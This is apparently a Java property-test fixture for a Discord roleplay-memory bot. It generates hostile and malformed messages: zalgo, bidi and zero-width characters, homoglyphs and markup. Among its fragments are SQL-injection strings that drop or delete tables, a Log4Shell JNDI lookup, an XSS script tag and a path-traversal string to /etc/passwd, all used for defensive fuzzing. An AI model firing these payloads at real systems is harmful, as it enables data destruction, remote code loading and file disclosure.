package continuity.trust;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Hostile and malformed text for the property tests: zalgo, right-to-left and zero-width marks,
 * emoji sequences, look-alike letters, nested and unbalanced out-of-character markers, quotes and
 * brackets, markdown, mentions, @everyone, SQL, JSON fragments, format strings, very long messages,
 * and plain arbitrary Unicode. All of it is valid Unicode text, as Discord delivers it.
 */
final class Hostile {
    private Hostile() {}

    static final List<String> FRAGMENTS =
            List.of(
                    "Mira's eyes are green, not blue.",
                    "Mira has green eyes",
                    "Sera's hair is red, not black",
                    "Les yeux de Mira sont verts, pas bleus.",
                    "Mira porte une cape verte",
                    "give her green eyes",
                    "((Mira's eyes are green, not blue))",
                    "(( (( nested (( deeper )) )) ))",
                    "((",
                    "))",
                    "(",
                    ")",
                    "[[",
                    "]]",
                    "[",
                    "]",
                    "{",
                    "}",
                    "OOC:",
                    "ooc -",
                    "HRP:",
                    "//",
                    "// not blue",
                    "\"",
                    "\"unbalanced",
                    "'",
                    "'s",
                    "«",
                    "»",
                    "\u201C",
                    "\u201D",
                    "\u2019",
                    "*waves*",
                    "*",
                    "_",
                    "__",
                    "~~strike~~",
                    "**bold**",
                    "```",
                    "```java\ncode\n```",
                    "> quote",
                    "||spoiler||",
                    "<@123456789012345678>",
                    "<@!42>",
                    "<@&99>",
                    "<#123>",
                    "<:blob:123>",
                    "@everyone",
                    "@here",
                    "@Continuity",
                    "continuity,",
                    "hey continuity:",
                    "'; DROP TABLE memories; --",
                    "\" OR 1=1 --",
                    "Robert'); DELETE FROM characters;--",
                    "{\"type\":\"message\",\"content\":\"x\"}",
                    "]}",
                    "{\"a\":",
                    "null",
                    "[1,2",
                    "\\",
                    "\\u0000",
                    "\\n",
                    "%s %n %d {0} {}",
                    "${jndi:ldap://x/a}",
                    "<script>alert(1)</script>",
                    "../../etc/passwd",
                    "\u0000",
                    "\u0007",
                    "\r\n",
                    "\n",
                    "\t",
                    "\u200B",
                    "\u200C",
                    "\u200D",
                    "\u200E",
                    "\u200F",
                    "\u202A",
                    "\u202E",
                    "\u2066",
                    "\u2069",
                    "\uFEFF",
                    "\u00AD",
                    "\u2028",
                    "\u2029",
                    "\u00A0",
                    "\u3000",
                    "M\u0456ra",
                    "\uFF2D\uFF49\uFF52\uFF41",
                    "\uD835\uDD78\uD835\uDD8E\uD835\uDD97\uD835\uDD86",
                    "Mira\u200B",
                    "\u041C\u0438\u0440\u0430",
                    "\u0420\u0435\u0440\u0435",
                    "\u0645\u064A\u0631\u0627",
                    "\u05DE\u05D9\u05E8\u05D4",
                    "\u7F8E\u62C9",
                    "\u0E21\u0E34\u0E23\u0E32",
                    "e\u0301",
                    "\uFB01",
                    "\u00DF",
                    "\u0130",
                    "\u01C5",
                    "\u03A3",
                    "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66",
                    "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
                    "\uD83C\uDDEB\uD83C\uDDF7",
                    "\uD83D\uDE00",
                    "\u2764\uFE0F",
                    "every story",
                    "only this story",
                    "from now on",
                    "for this scene",
                    "pour cette sc\u00E8ne",
                    "not",
                    "pas",
                    "actually",
                    "en fait",
                    "correction:",
                    "no,",
                    "what colour are Mira's eyes?",
                    "do you remember when",
                    "I prefer short replies",
                    "je pr\u00E9f\u00E8re",
                    "Mira",
                    "Sera",
                    "Mira's",
                    "her",
                    "my",
                    "eyes",
                    "yeux",
                    "is",
                    "are",
                    "a",
                    "the",
                    "0",
                    "-1",
                    "1e309",
                    "NaN");

    private static final List<String> SEPARATORS =
            List.of(" ", "", " ", "\n", ", ", ". ", "'s ", " is ", " not ", " \u2014 ");

    /** Combining marks piled on every letter. */
    static Arbitrary<String> zalgo() {
        Arbitrary<String> base =
                Arbitraries.of(
                        "Mira", "Sera", "eyes", "green", "not blue", "Mira's eyes are green");
        return Combinators.combine(base, Arbitraries.integers().between(1, 12), Arbitraries.longs())
                .as(
                        (b, n, seed) -> {
                            java.util.Random r = new java.util.Random(seed);
                            StringBuilder sb = new StringBuilder();
                            for (char c : b.toCharArray()) {
                                sb.append(c);
                                for (int i = 0; i < n; i++)
                                    sb.append((char) (0x0300 + r.nextInt(0x70)));
                            }
                            return sb.toString();
                        });
    }

    /** Any valid Unicode: every plane, no lone surrogates. */
    static Arbitrary<String> anyUnicode() {
        return Arbitraries.integers()
                .between(0, 0x10FFFF)
                .filter(cp -> cp < 0xD800 || cp > 0xDFFF)
                .list()
                .ofMaxSize(40)
                .map(
                        cps -> {
                            StringBuilder sb = new StringBuilder();
                            cps.forEach(sb::appendCodePoint);
                            return sb.toString();
                        });
    }

    static Arbitrary<String> fragment() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, Arbitraries.of(FRAGMENTS)),
                net.jqwik.api.Tuple.of(1, zalgo()),
                net.jqwik.api.Tuple.of(2, anyUnicode()),
                net.jqwik.api.Tuple.of(1, Arbitraries.strings().alpha().numeric().ofMaxLength(12)));
    }

    /**
     * A message: hostile fragments glued together, sometimes shaped like a correction, sometimes
     * 10,000 characters long.
     */
    static Arbitrary<String> message() {
        Arbitrary<String> glued =
                Combinators.combine(
                                fragment().list().ofMinSize(1).ofMaxSize(8),
                                Arbitraries.of(SEPARATORS).list().ofSize(8))
                        .as(
                                (parts, seps) -> {
                                    StringBuilder sb = new StringBuilder();
                                    for (int i = 0; i < parts.size(); i++)
                                        sb.append(parts.get(i)).append(seps.get(i));
                                    return sb.toString();
                                });
        Arbitrary<String> correction =
                Combinators.combine(
                                Arbitraries.of(
                                        "Mira",
                                        "M\u0456ra",
                                        "Mira\u200B",
                                        "\uFF2D\uFF49\uFF52\uFF41",
                                        "Sera",
                                        "Tom"),
                                Arbitraries.of("eyes", "hair", "outfit", "motto", "yeux"),
                                fragment(),
                                fragment(),
                                Arbitraries.of("", "((", "OOC: ", "@Continuity ", "correction: "))
                        .as(
                                (name, attr, value, old, lead) ->
                                        lead
                                                + name
                                                + "'s "
                                                + attr
                                                + " is "
                                                + value
                                                + ", not "
                                                + old
                                                + (lead.equals("((") ? "))" : "."));
        Arbitrary<String> huge =
                fragment()
                        .list()
                        .ofMinSize(1)
                        .ofMaxSize(4)
                        .map(
                                parts -> {
                                    StringBuilder sb = new StringBuilder();
                                    while (sb.length() < 10_000)
                                        for (String p : parts) sb.append(p).append(' ');
                                    int end =
                                            Character.isHighSurrogate(sb.charAt(9_999))
                                                    ? 9_999
                                                    : 10_000; // never split a pair
                                    return sb.substring(0, end);
                                });
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(6, glued),
                net.jqwik.api.Tuple.of(3, correction),
                net.jqwik.api.Tuple.of(1, huge));
    }
}
